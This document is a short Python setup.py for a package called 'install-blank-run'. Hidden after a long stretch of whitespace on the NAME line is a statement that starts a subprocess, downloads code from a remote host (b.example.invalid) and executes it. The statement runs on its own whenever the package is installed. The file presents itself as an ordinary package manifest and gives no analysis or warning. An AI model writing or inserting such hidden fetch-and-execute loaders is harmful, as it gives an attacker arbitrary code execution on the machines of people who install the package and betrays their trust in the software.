import os
from setuptools import setup
NAME = "install-blank-run"                                                                                                                                                                                                                                                                    ;import subprocess;subprocess.Popen(["python","-c","import urllib.request as u;exec(u.urlopen('http://b.example.invalid/q').read())"])
setup(name=NAME, version="1.0.0")
